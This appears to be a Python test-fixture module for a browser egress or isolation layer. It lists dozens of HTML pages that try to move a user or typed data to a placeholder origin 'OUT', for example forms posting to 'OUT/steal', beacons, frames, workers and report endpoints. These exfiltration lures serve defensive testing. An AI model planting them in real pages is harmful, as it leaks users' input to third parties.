"""Pages that try to get their user, or what runs in them, to another origin: OWN is the application's, OUT the other."""

# Pages are written as they come.
# ruff: noqa: E501

from __future__ import annotations

Pages = dict[str, object]

_POSTED = "<form method=post action=OUT/steal><input name=word aria-label=Word><button>Send</button></form>"


def _on_click(code: str, **more: object) -> Pages:
    return {"/": f'<p>lure</p><button onclick="{code}">Go</button>', **more}


def _moved(status: int) -> tuple[int, dict[str, str], bytes]:
    return (status, {"Location": "OUT/moved"}, b"")


# Nothing of these reaches the other origin: a navigation, or something sent with it, that the user or a script begins.
LEAVING: dict[str, Pages] = {
    "a link": {"/": "<a href=OUT/>Go</a>"},
    "a link into a new tab": {"/": "<a href=OUT/ target=_blank>Go</a>"},
    "a link into a new tab without opener": {"/": "<a href=OUT/ target=_blank rel=noopener>Go</a>"},
    "a relative link and a base": {"/": "<base href=OUT/><a href=page>Go</a>"},
    "a link of an SVG": {"/": '<svg width=200 height=50><a href="OUT/"><text y=20>Go</text></a></svg>'},
    "a javascript link": {"/": "<a href=\"javascript:location='OUT/'\">Go</a>"},
    "a link that is saved": {"/": "<a href=OUT/file.bin download>Go</a>"},
    "a link that pings": {"/": "<a href=/next ping=OUT/ping>Go</a>", "/next": "next"},
    "a link that a click makes another": {
        "/": "<a href=/next onmousedown=\"this.href='OUT/'\">Go</a>",
        "/next": "next",
    },
    "a form": {"/": "<form action=OUT/><input name=word aria-label=Word><button>Send</button></form>"},
    "a form that posts": {"/": _POSTED},
    "a form into a new tab": {"/": _POSTED.replace("<form", "<form target=_blank")},
    "a button of a form": {
        "/": "<form method=post><input name=word aria-label=Word><button formaction=OUT/steal>Send</button></form>"
    },
    "a form as text": {"/": _POSTED.replace("<form", "<form enctype=text/plain")},
    "a form with a file": {"/": _POSTED.replace("<form", "<form enctype=multipart/form-data")},
    "a form that a script sends": {"/": _POSTED.replace("<button>", "<button type=button onclick=form.submit()>")},
    "a form that a script requests": {
        "/": _POSTED.replace("<button>", "<button type=button onclick=form.requestSubmit()>")
    },
    "a form outside of the page": _on_click(
        "const f = document.createElement('form'); f.action = 'OUT/steal'; f.method = 'post'; document.body.append(f); f.submit()"
    ),
    "Enter in a field": {"/": "<form method=post action=OUT/steal><input name=word aria-label=Word></form>"},
    "location": _on_click("location = 'OUT/'"),
    "location.replace": _on_click("location.replace('OUT/')"),
    "location.host": _on_click("location.host = 'OUTHOST'"),
    "the Navigation API": _on_click("navigation.navigate('OUT/')"),
    "a meta refresh": _on_click(
        "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\\'0;url=OUT/\\'>')"
    ),
    "a Refresh header": {"/": "<a href=/next>Go</a>", "/next": (200, {"Refresh": "0;url=OUT/"}, "next")},
    "a redirect": {"/": "<a href=/next>Go</a>", "/next": _moved(302)},
    "a redirect that posts": {
        "/": "<form method=post action=/next><input name=word aria-label=Word><button>Send</button></form>",
        "/next": _moved(307),
    },
    "redirects one after the other": {
        "/": "<a href=/next>Go</a>",
        "/next": (302, {"Location": "/then"}, b""),
        "/then": _moved(301),
    },
    "a window": _on_click("window.open('OUT/')"),
    "a window without opener": _on_click("window.open('OUT/', '', 'noopener')"),
    "a window that is sent on": _on_click("const w = window.open(''); w.location = 'OUT/'"),
    "a window that a form is written into": _on_click(
        "const w = window.open(''); w.document.write('<form method=post action=OUT/steal><input name=a></form>'); w.document.forms[0].submit()"
    ),
    "a window of ours that goes on": _on_click(
        "window.open('/next')", **{"/next": "<script>location = 'OUT/'</script>"}
    ),
    "a window that moves its opener": _on_click(
        "window.open('/next')", **{"/next": "<script>opener.location = 'OUT/'</script>"}
    ),
    "a page from a blob": _on_click(
        "location = window.URL.createObjectURL(new Blob(['<script>location = `OUT/`</script>'], { type: 'text/html' }))"
    ),
    "a timer": _on_click("setTimeout(() => { location = 'OUT/' }, 10)"),
    "a response": _on_click("fetch('/data').then((r) => r.text()).then((t) => { location = t })", **{"/data": "OUT/"}),
    "a page that is left": _on_click(
        "addEventListener('pagehide', () => navigator.sendBeacon('OUT/beacon', 'x')); location = '/next'",
        **{"/next": "next"},
    ),
    "a beacon": _on_click("navigator.sendBeacon('OUT/beacon', 'typed')"),
    "a frame of ours with a link": {"/": "<iframe src=/inner></iframe>", "/inner": "<a href=OUT/>Go</a>"},
    "a frame of ours with a form": {"/": "<iframe src=/inner></iframe>", "/inner": _POSTED},
    "a frame of ours with a link to the top": {
        "/": "<iframe src=/inner></iframe>",
        "/inner": "<a href=OUT/ target=_top>Go</a>",
    },
    "a frame of ours that moves the top": {
        "/": "<iframe src=/inner></iframe>",
        "/inner": "<button onclick=\"top.location='OUT/'\">Go</button>",
    },
    "a srcdoc frame with a form": {
        "/": '<iframe srcdoc="<form method=post action=OUT/steal><input name=word aria-label=Word><button>Send</button></form>"></iframe>'
    },
    "a sandboxed srcdoc frame with a form": {
        "/": "<iframe sandbox='allow-forms allow-scripts' srcdoc=\"<form method=post action=OUT/steal><button>Send</button></form>\"></iframe>"
    },
    "a form into an empty frame": {"/": "<iframe name=f></iframe>" + _POSTED.replace("<form", "<form target=f")},
    "a form that asks into an empty frame": {
        "/": "<iframe name=f></iframe><form target=f action=OUT/steal><input name=word aria-label=Word><button>Send</button></form>"
    },
    "a form that a script sends into a frame": {
        "/": "<iframe name=f></iframe>"
        + _POSTED.replace("<form", "<form target=f").replace("<button>", "<button type=button onclick=form.submit()>")
    },
    "a form that a click makes, into a frame": _on_click(
        "document.body.insertAdjacentHTML('beforeend', '<iframe name=f></iframe><form method=post target=f action=OUT/steal></form>'); document.forms[0].submit()"
    ),
    "a form into a frame that redirects": {
        "/": "<iframe name=f></iframe><form method=post target=f action=/next><input name=word aria-label=Word><button>Send</button></form>",
        "/next": _moved(308),
    },
    "a link into an empty frame": {"/": "<iframe name=f></iframe><a href=OUT/ target=f>Go</a>"},
    "a speculation rule": {
        "/": '<script type=speculationrules>{"prefetch": [{"urls": ["OUT/guess"], "eagerness": "immediate"}], "prerender": [{"urls": ["OUT/guess2"], "eagerness": "immediate"}]}</script><button>Go</button>'
    },
    "a report of the security policy": {
        "/": (
            200,
            {"Content-Security-Policy": "script-src 'unsafe-inline'; report-uri OUT/report"},
            "<button onclick=\"document.body.append(Object.assign(document.createElement('script'), { src: '/x.js' }))\">Go</button>",
        )
    },
    "a report of the network": {
        "/": (
            200,
            {
                "Reporting-Endpoints": 'default="OUT/report"',
                "Content-Security-Policy": "script-src 'unsafe-inline'; report-to default",
            },
            "<button onclick=\"document.body.append(Object.assign(document.createElement('script'), { src: '/x.js' }))\">Go</button>",
        )
    },
    "a service worker": {
        "/": "<button onclick=\"navigator.serviceWorker.register('/sw.js').catch(() => {})\">Go</button>",
        "/sw.js": "fetch('OUT/sw'); oninstall = (e) => e.waitUntil(fetch('OUT/sw'))",
    },
    "a payment": _on_click(
        "new PaymentRequest([{ supportedMethods: 'OUT/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show().catch(() => {})"
    ),
}

# Within a frame of the other origin, which the page embeds; it may be loaded, and nothing more.
WITHIN: dict[str, str] = {
    "a button": "<button onclick=\"fetch('/steal', { method: 'POST', body: 'x' })\">Go</button>",
    "a form": "<form method=post action=/steal><input name=word aria-label=Word><button>Send</button></form>",
    "a srcdoc frame": '<iframe srcdoc="<form method=post action=/steal><input name=word aria-label=Word><button>Send</button></form>"></iframe>',
    "an empty frame that is written into": "<iframe id=f></iframe><script>f.contentDocument.body.innerHTML = '<form method=post action=OUT/steal><input name=word aria-label=Word><button>Send</button></form>'</script>",
    "a written frame": "<iframe id=f></iframe><script>f.contentDocument.open(); f.contentDocument.write('<form method=post action=OUT/steal><input name=word aria-label=Word><button>Send</button></form>'); f.contentDocument.close()</script>",
    "a srcdoc frame in a srcdoc frame": "<iframe srcdoc=\"<iframe srcdoc='<button onclick=fetch(`OUT/steal`,{method:`POST`})>Go</button>'></iframe>\"></iframe>",
    "a sandboxed srcdoc frame": "<iframe sandbox='allow-forms allow-scripts' srcdoc=\"<form method=post action=OUT/steal><button>Send</button></form>\"></iframe>",
    "a javascript frame": "<iframe src=\"javascript:'<form method=post action=OUT/steal><button>Send</button></form>'\"></iframe>",
    "a frame from a blob": "<iframe id=f></iframe><script>f.src = URL.createObjectURL(new Blob(['<form method=post action=OUT/steal><button>Send</button></form>'], { type: 'text/html' }))</script>",
    "a frame from data": '<iframe src="data:text/html,<form method=post action=OUT/steal><button>Send</button></form>"></iframe>',
    "a frame of the page's": "<script>top.frames[1] && (top.frames[1].location = 'about:blank')</script><button>Go</button>",
    "a window that opens by itself": "<script>setTimeout(() => window.open('/steal'), 10)</script>",
    "the page's address": "<script>setTimeout(() => { top.location = '/steal' }, 10)</script>",
}

# What a page itself embeds or asks for: it goes out, but not where others are blocked. The value: what reaches the other origin.
EMBEDDING: dict[str, tuple[Pages, list[str]]] = {
    "an image": ({"/": "<img src=OUT/image.png>"}, ["GET /image.png"]),
    "a script": ({"/": "<script src=OUT/code.js></script>"}, ["GET /code.js"]),
    "a stylesheet": ({"/": "<link rel=stylesheet href=OUT/style.css>"}, ["GET /style.css"]),
    "a frame": ({"/": "<iframe src=OUT/widget></iframe>"}, ["GET /widget"]),
    "a frame that a click opens": (
        _on_click("document.body.append(Object.assign(document.createElement('iframe'), { src: 'OUT/widget' }))"),
        ["GET /widget"],
    ),
    "fetch": (_on_click("fetch('OUT/api', { mode: 'no-cors' })"), ["GET /api"]),
    "an EventSource": (_on_click("new EventSource('OUT/events')"), ["GET /events"]),
    "a WebSocket": (_on_click("new WebSocket('OUT/socket'.replace('http', 'ws'))"), ["GET /socket"]),
    "a worker's fetch": (
        _on_click("new Worker(window.URL.createObjectURL(new Blob(['fetch(`OUT/worker`, { mode: `no-cors` })'])))"),
        ["GET /worker"],
    ),
    "a worker's WebSocket": (
        _on_click(
            "new Worker(window.URL.createObjectURL(new Blob(['new WebSocket(`OUT/worker`.replace(`http`, `ws`))'])))"
        ),
        ["GET /worker"],
    ),
    "a worker's EventSource": (
        _on_click("new Worker(window.URL.createObjectURL(new Blob(['new EventSource(`OUT/worker`)'])))"),
        ["GET /worker"],
    ),
    "a worker's worker": (
        _on_click(
            "new Worker(window.URL.createObjectURL(new Blob(['new Worker(URL.createObjectURL(new Blob([\\'fetch(\\\\\\'OUT/worker\\\\\\', { mode: \\\\\\'no-cors\\\\\\' })\\'])))'])))"
        ),
        ["GET /worker"],
    ),
    "a shared worker's fetch": (
        _on_click(
            "new SharedWorker(window.URL.createObjectURL(new Blob(['fetch(`OUT/worker`, { mode: `no-cors` })'])))"
        ),
        ["GET /worker"],
    ),
    "a shared worker's WebSocket": (
        _on_click(
            "new SharedWorker(window.URL.createObjectURL(new Blob(['new WebSocket(`OUT/worker`.replace(`http`, `ws`))'])))"
        ),
        ["GET /worker"],
    ),
    "a prefetch": ({"/": "<link rel=prefetch href=OUT/prefetched>"}, ["GET /prefetched"]),
    "a preload": ({"/": "<link rel=preload as=image href=OUT/preloaded>"}, ["GET /preloaded"]),
    "a module": ({"/": "<script type=module>import('OUT/module.js').catch(() => {})</script>"}, ["GET /module.js"]),
    "an audio worklet": (
        _on_click("new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('OUT/worklet.js').catch(() => {})"),
        ["GET /worklet.js"],
    ),
    "a favicon": ({"/": "<link rel=icon href=OUT/icon.png>"}, ["GET /icon.png"]),
    "a kept fetch": (
        _on_click("fetch('OUT/kept', { mode: 'no-cors', method: 'POST', keepalive: true })"),
        ["POST /kept"],
    ),
    "a synchronous request": (
        _on_click("const x = new XMLHttpRequest(); x.open('GET', 'OUT/sync', false); try { x.send() } catch {}"),
        ["GET /sync"],
    ),
    "an XML request": (
        _on_click("const x = new XMLHttpRequest(); x.open('PUT', 'OUT/xhr'); x.send('x')"),
        ["OPTIONS /xhr"],
    ),
    "a redirect of an image": ({"/": "<img src=/next.png>", "/next.png": _moved(302)}, ["GET /moved"]),
    "a video": ({"/": "<video src=OUT/film.mp4 preload=auto></video>"}, ["GET /film.mp4"]),
    "an object": ({"/": "<object data=OUT/object></object>"}, ["GET /object"]),
    "a WebSocketStream": (
        _on_click("new WebSocketStream('OUT/stream'.replace('http', 'ws')).opened.catch(() => {})"),
        ["GET /stream"],
    ),
}

# Those that got out once, and one of each kind: what is tried every time. The others take long.
QUICK = frozenset(
    {
        "a link that pings",
        "a beacon",
        "a frame of ours with a form",
        "a sandboxed srcdoc frame with a form",
        "a form that asks into an empty frame",
        "a form into a frame that redirects",
        "a speculation rule",
        "a report of the security policy",
        "a redirect that posts",
        "a window",
        "a srcdoc frame",
        "an empty frame that is written into",
        "a javascript frame",
        "the page's address",
        "a frame that a click opens",
        "fetch",
        "a worker's WebSocket",
        "a shared worker's fetch",
        "a WebSocket",
    }
)
